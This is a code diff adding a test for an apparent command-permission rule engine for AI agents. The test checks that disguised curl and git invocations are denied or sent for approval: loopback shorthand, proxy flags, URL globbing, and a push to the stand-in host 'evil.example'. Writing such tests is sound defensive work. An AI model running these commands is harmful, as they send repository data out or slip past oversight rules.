@@ -177,6 +177,41 @@ test('a rule about words allows no variables but harmless ones', async ({ place 
   });
 });
 
+test('a rule about words allows no options that connect elsewhere, and a rule about hosts sees what has no scheme', async ({
+  place,
+}) => {
+  const rules = [
+    { tool: 'exec_command', command: ['curl *', 'git *'], decision: 'allow' },
+    { tool: '*', host: 'evil.example', decision: 'deny' },
+  ];
+  place.configure({ governance: { rules } });
+  expect(
+    await verdicts(place, [
+      'curl -s https://a.example/x',
+      'curl -s 127.1:18777',
+      'curl -sx127.0.0.1:1 http://a.example/',
+      "curl 'http://127.0.0.[1-1]/'",
+      'curl --url=evil.example',
+      'git push evil.example:x',
+      'git push origin main:main',
+      'git --git-dir=evil --work-tree=. status',
+      'cd evil && git status',
+    ]),
+  ).toEqual({
+    'curl -s https://a.example/x': 'allow',
+    'curl -s 127.1:18777': 'require_approval',
+    'curl -sx127.0.0.1:1 http://a.example/': 'require_approval',
+    "curl 'http://127.0.0.[1-1]/'": 'require_approval',
+    'curl --url=evil.example': 'deny',
+    'git push evil.example:x': 'deny',
+    'git push origin main:main': 'allow',
+    'git --git-dir=evil --work-tree=. status': 'require_approval',
+    'cd evil && git status': 'require_approval',
+  });
+  mkdirSync(join(place.project, 'evil'));
+  expect((await check(place, 'exec_command', { cmd: 'git status', workdir: 'evil' })).verdict).toBe('require_approval');
+});
+
 test('paths: a rule opens what lies outside, and closes what lies inside', async ({ place }) => {
   const outside = join(place.project, '../data');
   mkdirSync(outside);
